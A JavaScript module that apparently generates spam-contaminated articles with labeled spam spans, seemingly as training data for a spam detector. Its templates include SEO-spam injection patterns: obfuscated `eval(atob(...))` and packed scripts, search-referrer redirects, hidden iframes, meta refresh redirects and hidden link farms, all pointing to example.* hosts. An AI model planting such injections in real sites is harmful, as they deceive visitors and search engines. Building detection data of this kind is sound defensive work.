// Puts spam of every family into a clean article. What is put in stands between the marks U+E000 and U+E001, which `finish` takes out again.
import { richBlock } from './dress.mjs';
import { ADVERTS, COMMENTS, CONTACTS } from './words.mjs';

const OPEN = '\ue000';
const CLOSE = '\ue001';
const mark = (s) => OPEN + s + CLOSE;
const SEPARATORS = {
  dense: ['|', '| ', ' | ', '、', '_', ' ', '-', '·', '/', ',', '，'],
  spaced: ['|', ' | ', ', ', ' _ ', '_', ' - ', ' · ', ' / ', '; '],
};
const isDense = (l) => /^(zh|ja|th)/.test(l);
const HOSTS = [
  'lucky-{w}.example.top',
  '{w}-deals.example.xyz',
  'best{w}.example.com',
  '{w}{n}.example.net',
  'go{w}.example.club',
  'the{w}house.example.org',
  '{w}24.example.info',
];
const SPUN = 'nova zest orbit prime echo pulse vivid royal turbo mega'.split(' ');
export const host = (r) =>
  r
    .pick(HOSTS)
    .replace('{w}', r.pick(SPUN))
    .replace('{n}', String(r.int(10, 999)));
const url = (r) =>
  `${r.pick(['http', 'https'])}://${r.chance(0.4) ? 'www.' : ''}${host(r)}${r.pick(['', '/', '/go', '/?ref=' + r.int(10, 99), '/p/' + r.int(100, 999)])}`;
const escape = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;');

export class Injector {
  constructor(words, r) {
    this.words = words;
    this.r = r;
  }
  phrase(language) {
    return this.r.pick(this.words[language] ?? this.words.en);
  }
  phrases(language, n) {
    return this.r.some(this.words[language] ?? this.words.en, n);
  }
  /** A language of the spam: the article's own where it has one, or another. */
  language(own, foreign) {
    const all = Object.keys(this.words);
    if (!foreign && all.includes(own)) return own;
    return this.r.pick(all.filter((l) => l.slice(0, 2) !== own.slice(0, 2)));
  }
  list(language, n = this.r.int(8, 40)) {
    const { r } = this;
    const dense = isDense(language);
    let items = this.phrases(language, n);
    while (items.length < n)
      items = [
        ...items,
        ...this.phrases(language, n - items.length).map((p) =>
          r.chance(0.5) && !dense ? `${p} ${r.int(1, 99)}` : p + this.phrase(language),
        ),
      ];
    const sep = r.pick(dense ? SEPARATORS.dense : SEPARATORS.spaced);
    return items.join(sep) + (r.chance(0.3) && /[|、_]/.test(sep) ? sep.trimEnd() : '');
  }
  fill(template, language) {
    const { r } = this;
    let first = true;
    const values = {
      p: () => this.phrase(language),
      q: () => this.phrase(language),
      h: () => (r.chance(0.4) ? url(r) : host(r)),
      n: () => String(r.pick([50, 88, 100, 150, 200, 500])),
      u: () => r.pick(SPUN) + r.int(100, 9999),
      t: () => String(r.int(100000000, 999999999)),
    };
    const out = template.replace(/\{(\w)\}/g, (_, k) => values[k]());
    void first;
    return out;
  }
  sentence(table, own, foreign = false) {
    const known = Object.keys(table);
    const language =
      !foreign && known.includes(own)
        ? own
        : this.r.pick(known.filter((l) => !foreign || l.slice(0, 2) !== own.slice(0, 2)));
    return this.fill(this.r.pick(table[language]), language);
  }
}

/** A block of its own, in the format's dress. */
const block = (parts, text) =>
  parts.rich
    ? richBlock(parts.format, text, parts.r)
    : parts.format === 'html'
      ? `<${parts.r.pick(['p', 'div', 'p'])}>${text}</$>`.replace(/<(\w+)>([^]*)<\/\$>/, '<$1>$2</$1>')
      : text;

function between(parts, spam, where) {
  const n = parts.blocks.length;
  const at = where === 'tail' ? n : where === 'head' ? 0 : parts.r.pick([n, n, parts.r.int(2, n - 1)]);
  parts.blocks.splice(at, 0, mark(spam));
}

/** At the end of a sound paragraph. */
function glue(parts, spam, spaced = parts.r.chance(0.5)) {
  const candidates = parts.blocks
    .map((b, i) => i)
    .filter((i) => i > 0 && !parts.blocks[i].includes(OPEN) && /[.!?。！？]$|<\/p>$/.test(parts.blocks[i]));
  if (!candidates.length) return false;
  const i = parts.r.pick(candidates);
  const gap = spaced ? ' ' : '';
  parts.blocks[i] =
    parts.format === 'html'
      ? parts.blocks[i].replace(/<\/p>$/, () => `${mark(gap + spam)}</p>`)
      : parts.blocks[i] + mark(gap + spam);
  return true;
}

/** At the end of a line without a sentence's end, or before it: a headline, a byline. */
function against(parts, at, spam) {
  const { r } = parts;
  const html = parts.format === 'html';
  const b = parts.blocks[at];
  const from = html ? b.indexOf('>') + 1 : /^(?:# )?/.exec(b)[0].length;
  const to = html ? b.lastIndexOf('<') : b.length;
  const gap = r.pick(['', ' ', ' ', ' | ', ' - ']);
  const line = b.slice(from, to);
  const put = r.chance(0.8) ? line + mark(gap + spam) : mark(spam + gap) + line;
  parts.blocks[at] = b.slice(0, from) + put + b.slice(to);
  return true;
}

const CREDITS = {
  en: ['By Rachel Omondi', 'Tom Weller, staff reporter', 'By Ana Ruiz and Paul Kerr | 12 May 2023'], de: ['Von Jutta Brandes', 'Von Karl Neumann, Hamburg'], fr: ['Par Louise Garnier', 'Publié le 4 mars 2022 par Marc Vidal'],
  es: ['Por Elena Castro', 'Redacción, 3 de mayo de 2021'], it: ['di Marco Bellini', 'Di Anna Fabbri, Torino'], pt: ['Por Joana Teles', 'Da Redação'], ru: ['Автор: Ирина Соколова', 'Анна Белова, 5 мая 2022'],
  pl: ['Autor: Jan Nowicki', 'Ewa Sobczak'], tr: ['Haber: Emre Aydın', 'Yazan: Selin Koç'], 'zh-Hans': ['来源：海东晚报', '记者 李建国 通讯员 周敏', '2023-05-12 08:30 来源：江州新闻网', '作者：王小萌'],
  'zh-Hant': ['記者陳怡君／台北報導', '來源：南方時報', '2022-03-04 10:15'], ja: ['取材・文＝佐藤健一', '2021年4月3日 10時20分', '記者 山田花子'], ko: ['김민수 기자', '입력 2023.05.12 09:30', '박지영 기자 jy@daily.example'],
  vi: ['Nguyễn Văn Hải', 'Theo Minh Anh'], id: ['Oleh Budi Santoso', 'Penulis: Rina Wati'], th: ['โดย สมชาย ใจดี'],
}; // prettier-ignore

/** In a credit line below the headline. */
function credit(parts, spam) {
  const line = parts.r.pick(CREDITS[parts.language] ?? CREDITS.en);
  parts.blocks.splice(1, 0, parts.format === 'html' ? `<p class="byline">${line}</p>` : line);
  parts.added = [1, parts.blocks[1]];
  return against(parts, 1, spam);
}

/** Somewhere inside a sound sentence. */
function inside(parts, spam) {
  const dense = isDense(parts.language);
  const candidates = parts.blocks
    .map((b, i) => i)
    .filter((i) => i > 0 && !parts.blocks[i].includes(OPEN) && parts.blocks[i].length > 60);
  if (!candidates.length) return false;
  const i = parts.r.pick(candidates);
  const b = parts.blocks[i];
  const from = parts.format === 'html' ? b.indexOf('>') + 1 : 0;
  const to = parts.format === 'html' ? b.lastIndexOf('<') : b.length;
  const spots = [];
  const inTag = (k) => parts.format === 'html' && b.lastIndexOf('<', k) > b.lastIndexOf('>', k);
  for (let k = from + 10; k < to - 10; k++)
    if (
      !inTag(k) &&
      (dense
        ? /[\p{L}]{2}/u.test(b.slice(k - 1, k + 1))
        : b[k] === ' ' && /\p{L}/u.test(b[k - 1]) && /\p{Ll}/u.test(b[k + 1]))
    )
      spots.push(k);
  if (!spots.length) return false;
  const k = parts.r.pick(spots);
  parts.blocks[i] = dense
    ? b.slice(0, k) + mark(spam) + b.slice(k)
    : b.slice(0, k) + mark((parts.r.chance(0.4) ? '' : ' ') + spam) + b.slice(k);
  return true;
}

/** Between two sound sentences. */
function amid(parts, spam) {
  const spots = parts.blocks.flatMap((b, i) =>
    i > 0 && !b.includes(OPEN) && b.length > 80
      ? [...b.matchAll(/[.!?] (?=["“«]?\p{Lu})|[。！？](?=[^」』）<\n])/gu)].map((m) => [i, m.index + 1])
      : [],
  );
  if (!spots.length) return false;
  const [i, at] = parts.r.pick(spots);
  const b = parts.blocks[i];
  parts.blocks[i] = b.slice(0, at) + mark((isDense(parts.language) ? '' : ' ') + spam) + b.slice(at);
  return true;
}

const LOOK = { a: 'а', e: 'е', o: 'о', p: 'р', c: 'с', x: 'х', i: 'і' };
const LEET = { a: '4', e: '3', i: '1', o: '0', s: '5' };
const obfuscations = {
  zero: (s, r) => [...s].map((c, i) => (i && r.chance(0.5) ? r.pick(['\u200b', '\u200c', '\u2060']) + c : c)).join(''),
  wide: (s) => s.replace(/[!-~]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)),
  look: (s) => s.replace(/[aeopcxi]/g, (c) => LOOK[c]),
  leet: (s, r) => s.replace(/[aeios]/g, (c) => (r.chance(0.7) ? LEET[c] : c)),
  spaced: (s, r) => {
    const by = r.pick([' ', '.', '-', '*']);
    return s
      .split(' ')
      .map((w) => [...w].join(by))
      .join('  ');
  },
  entity: (s) => [...s].map((c) => `&#${c.codePointAt(0)};`).join(''),
};

function hiddenStyle(r) {
  return r.pick([
    'position:absolute;left:-9999px', 'display:none', 'display: none;', 'font-size:0', 'font-size:1px;line-height:0', 'width:0;height:0;overflow:hidden', 'height:1px;overflow:hidden;',
    'color:#ffffff;background-color:#fff', 'visibility:hidden', 'position:absolute;clip:rect(0,0,0,0)', 'opacity:0', 'text-indent:-9999px', 'position:fixed;top:-2000px',
  ]); // prettier-ignore
}

const anchors = (inj, language, n, by = ' ') =>
  Array.from({ length: n }, () => `<a href="${url(inj.r)}">${escape(inj.phrase(language))}</a>`).join(by);
const mdLinks = (inj, language, n, by) =>
  Array.from({ length: n }, () => `[${inj.phrase(language)}](${url(inj.r)})`).join(by);

function nest(r, depth = r.int(3, 6)) {
  const name = () =>
    r.pick(
      'acronym abbr b bdo big center cite code dd del dfn dir dl em fieldset font i ins kbd label legend noframes ol optgroup q rt ruby s samp small strike strong sub sup tt u'.split(
        ' ',
      ),
    );
  const id = () =>
    Array.from({ length: r.int(4, 6) }, (_, i) =>
      i === 1 ? r.int(0, 9) : r.pick([...'abcdefghijklmnopqrstuvwxyz0123456789']),
    ).join('');
  const one = (d) => {
    const t = name();
    return `<${t} ${r.pick(['id', 'class'])}="${id()}">${d > 0 ? Array.from({ length: r.int(1, 2) }, () => one(d - 1)).join('') : ''}</${t}>`;
  };
  return one(depth);
}

function script(inj) {
  const { r } = inj;
  const link = `<div style="display:none"><a href="${url(r)}">${inj.phrase('en')}</a></div>`;
  const b64 = Buffer.from(`document.write('${link}')`).toString('base64');
  return r.pick([
    () => `<script>document.write('${link}');</script>`,
    () => `<script>eval(atob("${b64}"));</script>`,
    () =>
      `<script>document.write(unescape("${[...link].map((c) => '%' + c.charCodeAt(0).toString(16).padStart(2, '0')).join('')}"));</script>`,
    () =>
      `<script type="text/javascript">eval(String.fromCharCode(${[...`document.write('${link}')`].map((c) => c.charCodeAt(0)).join(',')}))</script>`,
    () =>
      `<script>var s=document.referrer;if(s.indexOf("google.")>0||s.indexOf("bing.")>0||s.indexOf("baidu.")>0){window.location.href="${url(r)}";}</script>`,
    () =>
      `<script>if(/(google|yahoo|bing|sogou|so)\\./i.test(document.referrer)){location.replace('${url(r)}')}</script>`,
    () =>
      `<script>document.write('<iframe src="${url(r)}" width="0" height="0" style="display:none"></iframe>')</script>`,
    () =>
      `<script>eval(function(p,a,c,k,e,d){while(c--)if(k[c])p=p.replace(new RegExp('\\\\b'+c+'\\\\b','g'),k[c]);return p}('0.1("<2 3=\\\\"4://5/\\\\" 6=\\\\"7:8\\\\">x</2>")',9,9,'document|write|a|href|http|${host(r)}|style|display|none'.split('|')))</script>`,
  ])();
}

/** family → [formats, (parts, injector) → whether it was put in]. */
export const FAMILIES = {
  'list-own': ['plain markdown html', (p, i) => between(p, block(p, p.esc(i.list(i.language(p.language)))))],
  'list-foreign': ['plain markdown html', (p, i) => between(p, block(p, p.esc(i.list(i.language(p.language, true)))))],
  'list-head': ['plain markdown html', (p, i) => between(p, block(p, p.esc(i.list(i.language(p.language)))), 'head')],
  'list-glued': ['plain markdown html', (p, i) => glue(p, p.esc(i.list(i.language(p.language))))],
  'list-headline': ['plain markdown html', (p, i) => against(p, 0, p.esc(i.list(i.language(p.language), p.r.int(4, 20))))],
  'list-credit': ['plain markdown html', (p, i) => credit(p, p.esc(i.list(i.language(p.language), p.r.int(4, 20))))],
  'phrase-headline': ['plain markdown html', (p, i) => against(p, 0, p.esc(i.phrase(i.language(p.language, p.r.chance(0.3)))))],
  'phrase-between': ['plain markdown html', (p, i) => amid(p, p.esc(i.phrase(i.language(p.language, p.r.chance(0.3)))))],
  'list-lines': ['plain markdown', (p, i) => between(p, i.phrases(i.language(p.language, p.r.chance(0.4)), p.r.int(7, 18)).join('\n'))],
  'list-breaks': ['html', (p, i) => between(p, `<p>${i.phrases(i.language(p.language, p.r.chance(0.4)), p.r.int(7, 18)).map(escape).join(p.r.pick(['<br>', '<br />\n']))}</p>`)],
  'list-items': ['markdown html', (p, i) => { const items = i.phrases(i.language(p.language, p.r.chance(0.4)), p.r.int(7, 18)); between(p, p.format === 'html' ? `<ul>${items.map((x) => `<li>${escape(x)}</li>`).join(p.r.pick(['', '\n']))}</ul>` : items.map((x) => `- ${x}`).join('\n')); }],
  'list-elements': ['html', (p, i) => { const items = i.phrases(i.language(p.language, p.r.chance(0.4)), p.r.int(7, 18)); const t = p.r.pick(['span', 'div', 'p', 'b']); between(p, `<div>${items.map((x) => `<${t}>${escape(x)}</${t}>`).join(p.r.pick([' ', '\n', '<br>']))}</div>`); }],
  'obfuscated-unseen': ['plain markdown html', (p, i) => between(p, block(p, obfuscations.zero(p.esc(i.list(i.language(p.language), p.r.int(5, 15))), p.r)))],
  'obfuscated-wide': ['plain markdown html', (p, i) => between(p, block(p, obfuscations.wide(i.list('en', p.r.int(4, 12)).replace(/[&<>]/g, ''))))],
  'obfuscated-look': ['plain markdown html', (p, i) => between(p, block(p, obfuscations[p.r.pick(['look', 'leet', 'spaced'])](i.phrases(p.r.pick(['en', 'en', 'es', 'de']), p.r.int(4, 10)).join(p.r.pick([' | ', ', ', ' '])), p.r)))],
  'obfuscated-entity': ['markdown html', (p, i) => between(p, block(p, obfuscations.entity(i.list(i.language(p.language, p.r.chance(0.4)), p.r.int(4, 10)))))],
  'glued-phrase': ['plain markdown html', (p, i) => inside(p, p.esc(i.phrase(i.language(p.language, p.r.chance(0.3)))))],
  'glued-link': ['markdown html', (p, i) => { const x = i.phrase(i.language(p.language, p.r.chance(0.3))); return inside(p, p.format === 'html' ? `<a href="${url(p.r)}">${escape(x)}</a>` : `[${x}](${url(p.r)})`); }],
  'link-farm': ['markdown html', (p, i) => { const l = i.language(p.language, p.r.chance(0.5)); const n = p.r.int(4, 14); const by = p.r.pick([' ', ' | ', ', ']); between(p, p.format === 'html' ? p.r.chance(0.5) ? `<p>${anchors(i, l, n, by)}</p>` : `<div class="x"><ul>${Array.from({ length: n }, () => `<li>${anchors(i, l, 1)}</li>`).join('')}</ul></div>` : mdLinks(i, l, n, by)); }],
  advert: ['plain markdown html', (p, i) => between(p, block(p, p.esc(i.sentence(ADVERTS, p.language))))],
  'advert-foreign': ['plain markdown html', (p, i) => between(p, block(p, p.esc(i.sentence(ADVERTS, p.language, true))))],
  spun: ['plain markdown html', (p, i) => { const l = i.language(p.language, p.r.chance(0.5)); const x = i.phrase(l); const u = url(p.r); between(p, block(p, p.r.pick([() => `<a href="${u}">${escape(x)}</a> [url=${u}]${x}[/url] ${u} ${x}`, () => `{Hello|Hi|Hey} {there|friend}, {${x}|${i.phrase(l)}} {is|are} {here|waiting}: ${u}`, () => `<a href="${u}">${escape(x)}</a><a href='${u}'>${escape(x)}</a> ${u}`])())); }],
  contact: ['plain markdown html', (p, i) => { const s = p.esc(i.sentence(CONTACTS, p.language, p.r.chance(0.3))); if (p.r.chance(0.25)) return glue(p, s); return between(p, block(p, s)); }],
  comment: ['plain markdown html', (p, i) => between(p, Array.from({ length: p.r.int(1, 3) }, () => block(p, p.esc(i.sentence(COMMENTS, p.language)))).join(p.gap), 'tail')],
  'hidden-style': ['markdown html', (p, i) => { const l = i.language(p.language, p.r.chance(0.5)); const t = p.r.pick(['div', 'span', 'p', 'div']); between(p, `<${t} style="${hiddenStyle(p.r)}">${p.r.chance(0.75) ? anchors(i, l, p.r.int(1, 8)) : escape(i.list(l, p.r.int(8, 20)))}</${t}>`); }],
  'hidden-class': ['html', (p, i) => { const l = i.language(p.language, p.r.chance(0.5)); const k = 'k' + p.r.int(100, 999); const how = p.r.int(0, 2); if (how === 0) p.head = p.head.replace('</head>', () => `<style>.${k}{${hiddenStyle(p.r).replace(/^color.*/, 'display:none')}}</style>\n</head>`); between(p, `<div ${how === 0 ? `class="${k}"` : how === 1 ? 'hidden' : 'class="d-none hidden"'}>${anchors(i, l, p.r.int(2, 8))}</div>`); }],
  'hidden-frame': ['markdown html', (p) => between(p, `<iframe src="${url(p.r)}" ${p.r.pick(['width="0" height="0"', 'width="1" height="1" frameborder="0"', 'style="display:none"', 'style="position:absolute;left:-5000px"', 'style="width:0;height:0;border:0"'])}></iframe>`)],
  'comment-links': ['markdown html', (p, i) => between(p, `<!-- ${anchors(i, i.language(p.language, p.r.chance(0.5)), p.r.int(2, 8))} -->`)],
  'empty-nest': ['html', (p) => between(p, Array.from({ length: p.r.int(1, 4) }, () => nest(p.r)).join(''))],
  'injected-code': ['html', (p, i) => between(p, script(i))],
  'outside-code': ['html', (p, i) => { const s = p.r.pick([() => `<script src="${url(p.r)}/${p.r.pick(['j', 'stat', 'tj'])}.js"></script>`, () => `<div style="display:none">${anchors(i, 'en', 4)}</div>`, () => `<script>eval(atob("${Buffer.from(`location='${url(p.r)}'`).toString('base64')}"))</script>`])(); if (p.r.chance(0.5)) p.head = mark(s) + '\n' + p.head; else p.tail = p.tail + mark(s) + '\n'; }],
  'hijacked-head': ['html', (p, i) => { const l = i.language(p.language, p.r.chance(0.6)); const code = p.r.chance(0.4) ? obfuscations.entity : escape; const tags = `<meta name="keywords" content="${code(i.phrases(l, 6).join(','))}">\n<meta name="description" content="${code(i.phrases(l, 5).join(p.r.pick([',', ' | ', ' '])))}">`; p.head = p.r.chance(0.5) ? p.head.replace('<title>', () => mark(`<title>${code(i.phrases(l, 3).join('_'))}</title>\n${tags}`) + '\n<title>') : p.head.replace('<link rel="canonical"', () => mark(tags) + '\n<link rel="canonical"'); }],
  'foreign-refresh': ['html', (p) => { p.head = p.head.replace('</head>', () => mark(`<meta http-equiv="refresh" content="${p.r.int(0, 5)};url=${url(p.r)}">`) + '\n</head>'); }],
  'repeated-block': ['plain markdown html', (p) => { const long = p.blocks.map((b, i) => i).filter((i) => i > 0 && !p.blocks[i].includes(OPEN) && !/^(?:- |##|!\[|> |<(?:h2|ul|figure|blockquote))/.test(p.blocks[i]) && p.blocks[i].replace(/<[^>]*>/g, '').length >= 160); if (!long.length) return false; const i = p.r.pick(long); p.blocks.splice(p.r.int(i + 1, p.blocks.length), 0, mark(p.blocks[i])); }],
}; // prettier-ignore

/** The finished text, the text before, and where the spam stands. */
export function finish(parts) {
  const marked = parts.head + parts.blocks.join(parts.gap) + parts.tail;
  let text = '';
  const spans = [];
  for (const piece of marked.split(/([\ue000\ue001])/)) {
    if (piece === OPEN) spans.push({ start: text.length, end: 0 });
    else if (piece === CLOSE) spans.at(-1).end = text.length;
    else text += piece;
  }
  return { text, spans };
}
